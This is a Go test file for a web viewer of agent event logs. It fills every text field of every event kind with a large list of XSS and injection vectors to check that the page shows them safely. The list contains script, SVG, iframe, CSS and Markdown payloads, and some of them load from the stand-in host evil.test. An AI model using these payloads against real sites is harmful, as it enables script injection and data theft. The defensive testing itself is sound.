package web_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"reflect"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/convene-run/convene/events"
	"github.com/convene-run/convene/internal/tsgen/types"
	"github.com/convene-run/convene/web"
)

// hostile are texts that would run, or call out, if a page took them for markup.
// Each calls boom() or asks evil.test for something.
func hostile() []string {
	run := "boom()"
	vectors := []string{
		`<script>` + run + `</script>`, `<SCRIPT SRC=//evil.test/x.js></SCRIPT>`, `<script src="https://evil.test/x.js"></script>`,
		`</script><script>` + run + `</script>`, `<scr<script>ipt>` + run + `</script>`, `<script/x>` + run + `</script>`,
		`<script type=module>import "//evil.test/x.js"</script>`, `</textarea><script>` + run + `</script>`, `</title><script>` + run + `</script>`,
		`--><script>` + run + `</script>`, `]]><script>` + run + `</script>`, "<script\n>" + run + "</script\n>", `<svg><script>` + run + `</script></svg>`,
		`<svg><script href="https://evil.test/x.js"/></svg>`, `<svg><animate onbegin=` + run + ` attributeName=x dur=1s>`, `<svg><set onbegin=` + run + `>`,
		`<svg><use href="https://evil.test/x.svg#a"/></svg>`, `<svg><image href="https://evil.test/x.png"/></svg>`, `<svg><foreignObject><iframe src="https://evil.test/"></iframe></foreignObject></svg>`,
		`<svg><a xlink:href="javascript:` + run + `"><text>x</text></a></svg>`, `<svg><style>@import "https://evil.test/x.css"</style></svg>`,
		`<math href="javascript:` + run + `">x</math>`, `<math><mi xlink:href="javascript:` + run + `">x</mi></math>`, `<math><annotation-xml encoding="text/html"><img src=x onerror=` + run + `></annotation-xml></math>`,
		`<iframe src="javascript:` + run + `"></iframe>`, `<iframe srcdoc="<script>parent.` + run + `</script>"></iframe>`, `<iframe src="https://evil.test/"></iframe>`,
		`<object data="javascript:` + run + `"></object>`, `<object data="https://evil.test/x"></object>`, `<embed src="https://evil.test/x">`, `<embed src="javascript:` + run + `">`,
		`<link rel=stylesheet href="https://evil.test/x.css">`, `<link rel=prefetch href="https://evil.test/x">`, `<link rel=import href="https://evil.test/x">`, `<link rel="dns-prefetch" href="//evil.test">`,
		`<meta http-equiv=refresh content="0;url=https://evil.test/">`, `<meta http-equiv=refresh content="0;url=javascript:` + run + `">`, `<base href="https://evil.test/">`,
		`<style>@import url(https://evil.test/x.css)</style>`, `<style>body{background:url(https://evil.test/x)}</style>`, `<style>@font-face{font-family:x;src:url(https://evil.test/f)}*{font-family:x}</style>`,
		`<div style="background:url(https://evil.test/x)">x</div>`, `<div style="background-image:image-set('https://evil.test/x' 1x)">x</div>`, `<div style="width:expression(` + run + `)">x</div>`, `<p style="-moz-binding:url(//evil.test/x)">x</p>`,
		`<form action="https://evil.test/"><button autofocus>x</button></form>`, `<form><button formaction="javascript:` + run + `">x</button></form>`, `<isindex action="javascript:` + run + `" type=image>`,
		`<img src="https://evil.test/x.png">`, `<img srcset="https://evil.test/x.png 1x">`, `<picture><source srcset="https://evil.test/x.png"><img></picture>`, `<img src=x:x onerror="` + run + `">`,
		`<img src=x onerror=` + run + `//`, `<img/src=x/onerror=` + run + `>`, "<img src=x\tonerror\t=\t" + run + ">", `<img src="x" onerror="&#98;oom()">`, `<img src=x onerror=\x62oom()>`, `"><img src=x onerror=` + run + `>`, `'><img src=x onerror=` + run + `>`,
		`<input autofocus onfocus=` + run + `>`, `<textarea autofocus onfocus=` + run + `></textarea>`, `<select autofocus onfocus=` + run + `></select>`, `<details open ontoggle=` + run + `>x</details>`,
		`<video src="https://evil.test/x" autoplay></video>`, `<video poster="https://evil.test/x"></video>`, `<audio src="https://evil.test/x" autoplay onerror=` + run + `></audio>`, `<video><source onerror=` + run + `></video>`, `<track src="https://evil.test/x">`,
		`<body onload=` + run + `>`, `<body background="https://evil.test/x">`, `<table background="https://evil.test/x"><td>x</table>`, `<frameset onload=` + run + `>`, `<marquee onstart=` + run + `>x</marquee>`, `<a onmouseover=` + run + `>x</a>`,
		`<a href="javascript:` + run + `" id=x>x</a>`, `<a href="&#106;avascript:` + run + `">x</a>`, `<a href=" java` + "\t" + `script:` + run + `">x</a>`, `<a href="data:text/html,<script>` + run + `</script>">x</a>`, `<a ping="https://evil.test/p" href="/">x</a>`,
		`<template><img src=x onerror=` + run + `></template>`, `<noscript><p title="</noscript><img src=x onerror=` + run + `>">`, `<xmp><img src=x onerror=` + run + `></xmp>`, `<plaintext><script>` + run + `</script>`, `<portal src="https://evil.test/"></portal>`,
		`<custom-element onclick=` + run + ` tabindex=0 autofocus onfocus=` + run + `>`, `<div contenteditable onfocus=` + run + ` autofocus>x</div>`, `<button popovertarget=x>y</button><div popover id=x onbeforetoggle=` + run + `>z</div>`,
		`![x](https://evil.test/x.png)`, `![x](https://evil.test/x.png "t")`, `![x][r]` + "\n\n[r]: https://evil.test/x.png", `![x](javascript:` + run + `)`, `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Ym9vbSgpPg==)`, `[![x](https://evil.test/i.png)](https://evil.test/)`,
		`[x](javascript:` + run + `)`, `[x](JaVaScRiPt:` + run + `)`, `[x](javascript&colon;` + run + `)`, `[x](java&Tab;script:` + run + `)`, `[x](<javascript:` + run + `>)`, `[x](vbscript:` + run + `)`, `[x](data:text/html;base64,PHNjcmlwdD5ib29tKCk8L3NjcmlwdD4=)`,
		`[x](file:///etc/passwd)`, `[x](blob:https://evil.test/x)`, `[x](https://evil.test/)`, `[x](//evil.test/)`, `<javascript:` + run + `>`, `<https://evil.test/>`, `https://evil.test/auto`, `[x][r]` + "\n\n[r]: javascript:" + run,
		"[x](javascript:" + run + " 'title\" onmouseover=\"" + run + "')", `[<img src=x onerror=` + run + `>](x)`, "```html\n<script>" + run + "</script>\n```", "    <img src=x onerror=" + run + ">", "`<img src=x onerror=" + run + ">`", "| <img src=x onerror=" + run + "> |\n| --- |\n| <script>" + run + "</script> |",
		"- <img src=x onerror=" + run + ">\n- [ ] <script>" + run + "</script>", "> <iframe src=\"https://evil.test/\">", "# <img src=x onerror=" + run + ">", "<!-- x --><img src=x onerror=" + run + "><!--", "<?x <img src=x onerror=" + run + ">?>", "<![CDATA[<img src=x onerror=" + run + ">]]>",
		`{{constructor.constructor('` + run + `')()}}`, "${" + run + "}", `javascript:` + run, `__proto__`, `constructor`, "\u2028" + run, "\u202e<img src=x onerror=" + run + ">", `<img src=x onerror=` + run + `>` + "\x00", `%3Cscript%3E` + run + `%3C/script%3E`, `&lt;script&gt;` + run + `&lt;/script&gt;`,
		`*/` + run + `/*`, `";` + run + `;//`, `';` + run + `;//`, `\";` + run + `;//`, `</style><script>` + run + `</script>`, `" autofocus onfocus="` + run + `" x="`, `x" style="background:url(https://evil.test/x)" y="`,
	}
	return vectors
}

// place is where a text stands in an event: "data.agents[].id" of a kind. "{key}" and
// "{value}" stand for all members of what is any JSON, "(json)" for a text that is
// JSON itself.
type place struct {
	kind events.Kind
	path string
}

// schema is what of the published schema the walk needs.
type schema struct {
	any        bool
	Type       any
	Format     string
	Const      any
	Ref        string `json:"$ref"`
	Properties map[string]*schema
	Items      *schema
	Additional *schema            `json:"additionalProperties"`
	Defs       map[string]*schema `json:"$defs"`
	OneOf      []*schema
	Title      string
}

func (s *schema) UnmarshalJSON(body []byte) error {
	if string(body) == "true" || string(body) == "{}" {
		s.any = true
		return nil
	}
	type plain schema
	return json.Unmarshal(body, (*plain)(s))
}

// published gives the schema of each kind's envelope, from the file that readers of
// the log get.
func published(t *testing.T) map[events.Kind]*schema {
	t.Helper()
	body, err := os.ReadFile("../events/schema/events.schema.json")
	require.NoError(t, err)
	var all schema
	require.NoError(t, json.Unmarshal(body, &all))
	kinds := map[events.Kind]*schema{}
	for _, one := range all.OneOf {
		delete(one.Properties, "by") // viewers get none of it: events.ForViewers
		data := one.Properties["data"]
		one.Properties["data"] = all.Defs[strings.TrimPrefix(data.Ref, "#/$defs/")]
		require.NotNil(t, one.Properties["data"], one.Title)
		kinds[events.Kind(one.Title)] = one
	}
	for _, kind := range events.Kinds() {
		require.Contains(t, kinds, kind, "run make generate")
	}
	return kinds
}

// is reports whether a value may be of that type.
func (s *schema) is(kind string) bool {
	switch named := s.Type.(type) {
	case string:
		return named == kind
	case []any:
		return slices.Contains(named, any(kind))
	}
	return false
}

// texts lists where texts can stand. A shape that it does not know fails the test:
// nothing is left out in silence.
func (s *schema) texts(t *testing.T, path string, found func(path string)) {
	switch {
	case s.any && strings.HasSuffix(path, "extra"): // viewers get a sign of it: TestViewersGetASignOfWhatIsKept
	case strings.HasSuffix(path, "base64"): // viewers get none of it
	case s.any:
		found(path + "{key}")
		found(path + "{value}")
	case s.Const != nil, s.is("string") && s.Format == "date-time":
	case s.is("string") && !refersBack(path):
		found(path)
		if holdsJSON(path) {
			found(path + "(json)")
		}
	case s.is("array"):
		s.Items.texts(t, path+"[]", found)
	case s.is("object"):
		require.True(t, len(s.Properties) > 0 || s.Additional != nil, "%s: an object of what?", path)
		for name, property := range s.Properties {
			property.texts(t, strings.TrimPrefix(path+"."+name, "."), found)
		}
		if s.Additional != nil {
			found(path + "{key}")
			s.Additional.texts(t, path+"{value}", found)
		}
	case refersBack(path):
	default:
		require.True(t, s.is("integer") || s.is("number") || s.is("boolean"), "%s: a shape that this test does not know: %v", path, s.Type)
	}
}

// refersBack names the id of an earlier run of the thread: a log in which it is another
// text is refused whole, so that nothing of it is shown.
func refersBack(path string) bool { return path == "data.continues" }

// holdsJSON names the texts that are JSON by what they mean: what a model wrote as
// the arguments of a call.
func holdsJSON(path string) bool {
	return path[strings.LastIndex(path, ".")+1:] == "arguments"
}

// standing tells every text of a value, with its path in the schema.
func (s *schema) standing(value any, path string, tell func(path, text string)) {
	switch value := value.(type) {
	case string:
		if s.any {
			path += "{value}"
		}
		tell(path, value)
		var inner map[string]any
		if holdsJSON(path) && json.Unmarshal([]byte(value), &inner) == nil {
			(&schema{any: true}).standing(inner, "", func(_, text string) { tell(path+"(json)", text) })
		}
	case []any:
		for _, item := range value {
			if s.any {
				s.standing(item, path, tell)
			} else {
				s.Items.standing(item, path+"[]", tell)
			}
		}
	case map[string]any:
		for name, member := range value {
			property := s.Properties[name]
			switch {
			case s.any:
				tell(path+"{key}", name)
				s.standing(member, path, tell)
			case property != nil:
				property.standing(member, strings.TrimPrefix(path+"."+name, "."), tell)
			case s.Additional != nil:
				tell(path+"{key}", name)
				s.Additional.standing(member, path+"{value}", tell)
			}
		}
	}
}

// account keeps which vector stood in which place of what a view showed.
type account struct {
	kinds   map[events.Kind]*schema
	vectors map[string]bool

	mu   sync.Mutex // guards seen
	seen map[place]map[string]bool
}

func newAccount(t *testing.T, vectors []string) *account {
	t.Helper()
	a := &account{kinds: published(t), vectors: map[string]bool{}, seen: map[place]map[string]bool{}}
	for _, vector := range vectors {
		require.False(t, a.vectors[vector], "twice: %s", vector)
		a.vectors[vector] = true
	}
	return a
}

// places are all where a text can stand, of every kind.
func (a *account) places(t *testing.T) []place {
	var all []place
	for kind, schema := range a.kinds {
		schema.texts(t, "", func(path string) { all = append(all, place{kind, path}) })
	}
	return all
}

// book notes what stood in an event that was shown, given as JSON.
func (a *account) book(t *testing.T, body string) {
	t.Helper()
	var env map[string]any
	require.NoError(t, json.Unmarshal([]byte(body), &env), "%.300s", body)
	kind := events.Kind(env["type"].(string))
	require.Contains(t, a.kinds, kind)
	a.mu.Lock()
	defer a.mu.Unlock()
	a.kinds[kind].standing(env, "", func(path, text string) {
		if !a.vectors[text] {
			return
		}
		at := place{kind, path}
		if a.seen[at] == nil {
			a.seen[at] = map[string]bool{}
		}
		a.seen[at][text] = true
	})
}

// whole checks that every vector stood in every place, but in those members of the
// envelope.
func (a *account) whole(t *testing.T, but ...string) {
	t.Helper()
	var missing []string
	triples := 0
	for _, at := range a.places(t) {
		if slices.Contains(but, at.path) {
			continue
		}
		for vector := range a.vectors {
			if a.seen[at][vector] {
				triples++
			} else {
				missing = append(missing, fmt.Sprintf("%s %s: %.60s", at.kind, at.path, vector))
			}
		}
	}
	slices.Sort(missing)
	require.Empty(t, missing[:min(len(missing), 20)], "%d vectors were not shown where they could stand", len(missing))
	t.Logf("%d vectors, %d kinds, %d triples of kind, field and vector", len(a.vectors), len(a.kinds), triples)
}

// poisoned is an event of a kind with the text in every field that holds text, as
// deep as they go. What is no text is 1, and flags are as they are given.
func poisoned(t *testing.T, kind events.Kind, text string, flags bool) events.Event {
	t.Helper()
	payload, err := types.Payload(kind)
	require.NoError(t, err)
	value := reflect.New(payload).Elem()
	poison(t, value, text, flags)
	return value.Interface().(events.Event)
}

func poison(t *testing.T, v reflect.Value, text string, flags bool) {
	switch {
	case !v.CanSet() || v.Type() == reflect.TypeFor[time.Time]():
	case v.Type() == reflect.TypeFor[json.RawMessage]():
		v.SetBytes(asJSON(t, map[string]any{text: text, "kind": text, "deep": []any{map[string]any{"id": text}}}))
	case v.Type() == reflect.TypeFor[[]byte]():
		v.SetBytes([]byte(text))
	case v.Kind() == reflect.String:
		v.SetString(text)
	case v.Kind() == reflect.Bool:
		v.SetBool(flags)
	case v.CanInt():
		v.SetInt(1)
	case v.CanFloat():
		v.SetFloat(1)
	case v.Kind() == reflect.Struct:
		for i := range v.NumField() {
			poison(t, v.Field(i), text, flags)
			if name, _, _ := strings.Cut(v.Type().Field(i).Tag.Get("json"), ","); holdsJSON(name) && flags && v.Field(i).Kind() == reflect.String {
				v.Field(i).SetString(string(asJSON(t, map[string]string{text: text})))
			}
		}
	case v.Kind() == reflect.Pointer:
		v.Set(reflect.New(v.Type().Elem()))
		poison(t, v.Elem(), text, flags)
	case v.Kind() == reflect.Slice:
		v.Set(reflect.MakeSlice(v.Type(), 1, 1))
		poison(t, v.Index(0), text, flags)
	case v.Kind() == reflect.Map:
		key, value := reflect.New(v.Type().Key()).Elem(), reflect.New(v.Type().Elem()).Elem()
		poison(t, key, text, flags)
		poison(t, value, text, flags)
		v.Set(reflect.MakeMap(v.Type()))
		v.SetMapIndex(key, value)
	default:
		require.Fail(t, "a type that this test does not know", v.Type())
	}
}

// hasJSON reports whether a type has a text that is JSON: then both are tried, the
// text as it is, and as a text in JSON.
func hasJSON(t reflect.Type) bool {
	switch t.Kind() {
	case reflect.Struct:
		for i := range t.NumField() {
			name, _, _ := strings.Cut(t.Field(i).Tag.Get("json"), ",")
			if holdsJSON(name) || hasJSON(t.Field(i).Type) {
				return true
			}
		}
	case reflect.Pointer, reflect.Slice, reflect.Map:
		return hasJSON(t.Elem())
	}
	return false
}

func asJSON(t *testing.T, value any) []byte {
	t.Helper()
	var out bytes.Buffer
	encoder := json.NewEncoder(&out)
	encoder.SetEscapeHTML(false)
	require.NoError(t, encoder.Encode(value))
	return bytes.TrimSpace(out.Bytes())
}

// hostileRun is a run in which every text of every kind of event is the vector: of
// kinds that come later too, for it asks package events which there are. What the
// folds compare fits. A second run of the thread ends as real ones do.
func hostileRun(t *testing.T, vector string) []events.Envelope {
	t.Helper()
	var envs []events.Envelope
	add := func(facts ...events.Event) {
		for _, fact := range facts {
			at := time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC).Add(time.Duration(len(envs)) * 400 * time.Millisecond)
			envs = append(envs, events.Envelope{
				Run: events.RunID(vector), Time: at, Agent: events.AgentID(vector), Dispatch: events.DispatchID(vector), Data: fact,
			})
		}
	}
	whole := func(kind events.Kind) events.Event { return poisoned(t, kind, vector, true) }
	opening := []events.Event{opened(t, vector), planned(t, vector), whole(events.KindAgentStarted)}
	closing := []events.Event{whole(events.KindTaskUpdated), whole(events.KindAgentFinished), whole(events.KindRunCancelled), whole(events.KindWorkflowFinished)}
	apart := map[events.Kind]bool{events.KindDocumentUpdated: true}
	for _, fact := range append(slices.Clone(opening), closing...) {
		apart[fact.Kind()] = true
	}
	add(opening...)
	add(poisoned(t, events.KindAgentStarted, vector, false))
	add(written(t, vector)...)
	for _, kind := range events.Kinds() {
		switch plain := poisoned(t, kind, vector, false); {
		case apart[kind]:
		case hasJSON(reflect.TypeOf(plain)):
			add(plain, whole(kind))
		default:
			add(whole(kind))
		}
	}
	add(closing...)
	return envs
}

// opened has a layout that the page can read, and in it the vector wherever a text
// can stand.
func opened(t *testing.T, vector string) events.Event {
	e := poisoned(t, events.KindWorkflowStarted, vector, true).(events.WorkflowStarted)
	e.Continues = "" // see refersBack
	e.Layout = asJSON(t, map[string]any{
		vector: vector, "kind": "sections",
		"sections": []any{map[string]any{"id": vector, "title": vector, "description": vector, "slots": []any{vector, "x"}}},
	})
	return e
}

// planned is a plan of one task, which is open.
func planned(t *testing.T, vector string) events.Event {
	return poisoned(t, events.KindTasksCreated, vector, false)
}

// written are three texts: a first one, one that replaces it and repeats of it, and
// one in which the vector stands inside of each kind of Markdown.
func written(t *testing.T, vector string) []events.Event {
	var facts []events.Event
	for i := range 3 {
		e := poisoned(t, events.KindDocumentUpdated, vector, true).(events.DocumentUpdated)
		e.Version, e.EntryID, e.Replaced, e.Merged, e.Spans = i+1, events.EntryID(i+1), nil, nil, nil
		switch i {
		case 1:
			e.Replaced, e.Merged = []events.EntryID{1}, []events.EntryID{1}
			e.Spans = []events.Span{{Start: 0, End: 1, Entry: 1}}
		case 2:
			e.Slot = "x"
			e.Content = strings.Join([]string{
				"# " + vector, "- " + vector, "> " + vector, "**" + vector + "**", "[" + vector + "](" + vector + " \"" + vector + "\")",
				"![" + vector + "](" + vector + ")", "| " + vector + " |\n| --- |\n| " + vector + " |", "```" + vector + "\n" + vector + "\n```", "1. " + vector,
			}, "\n\n")
		}
		facts = append(facts, e)
	}
	return facts
}

// failedRun is one that ended as real ones do, of the vector's texts.
func failedRun(t *testing.T, vector string, described bool) []events.Envelope {
	t.Helper()
	start := poisoned(t, events.KindWorkflowStarted, vector, false).(events.WorkflowStarted)
	start.Continues = ""
	end := poisoned(t, events.KindWorkflowFinished, vector, false).(events.WorkflowFinished)
	end.Status = events.StatusFailed
	facts := []events.Event{start, planned(t, vector), end}
	if described {
		facts = []events.Event{start, poisoned(t, events.KindError, vector, false), end}
	}
	envs := make([]events.Envelope, len(facts))
	for i, fact := range facts {
		envs[i] = events.Envelope{Run: events.RunID("failed " + vector), Agent: events.AgentID(vector), Data: fact}
	}
	return envs
}

// ofBatch reports whether a kind stands in a batch's thread, where no run is: the
// batch's page shows it.
func ofBatch(kind events.Kind) bool { return strings.HasPrefix(string(kind), "batch_") }

// hostileBatch is a batch in which every text of every kind of event that batches have
// is the vector. It is running from its second event to its last but one.
func hostileBatch(t *testing.T, vector string) []events.Envelope {
	t.Helper()
	kinds := []events.Kind{events.KindBatchStarted}
	for _, kind := range events.Kinds() {
		if ofBatch(kind) && kind != events.KindBatchStarted && kind != events.KindBatchEnded {
			kinds = append(kinds, kind)
		}
	}
	var envs []events.Envelope
	for i, kind := range append(kinds, events.KindBatchEnded) {
		envs = append(envs, events.Envelope{
			Agent: events.AgentID(vector), Dispatch: events.DispatchID(vector), Data: poisoned(t, kind, vector, true),
			Time: time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC).Add(time.Duration(i) * time.Second),
		})
	}
	return envs
}

// hostileServer tells hostile things of itself: teams, and agents at work.
type hostileServer struct{ web.Runs }

func (hostileServer) Teams(events.TenantID) []web.TeamInfo {
	var teams []web.TeamInfo
	for _, vector := range hostile() {
		teams = append(teams, web.TeamInfo{Name: vector, Description: vector, Specialists: []events.AgentID{events.AgentID(vector)}})
	}
	return teams
}

func (hostileServer) Live(key events.ThreadKey) ([]web.LiveAgent, bool) {
	text, since := string(key.Thread), time.Unix(1_800_000_000, 0)
	agent := web.LiveAgent{
		Agent: events.AgentID(text), DisplayName: text, Dispatch: events.DispatchID(text), Call: events.ModelCallID(text), Phase: text,
		Since: since, Heard: since, Attempt: 2, RetryReason: text,
		Stream: []web.LivePiece{{Text: text, Begins: true}, {From: int64(len(text)), Text: `{"x":"` + text, InCall: true, Begins: true}},
	}
	again, writing := agent, agent
	again.Phase, again.RetryAt, again.Dispatch = "retrying", &since, "again"
	writing.Phase, writing.Dispatch = "writing", "writing"
	return []web.LiveAgent{agent, again, writing}, true
}
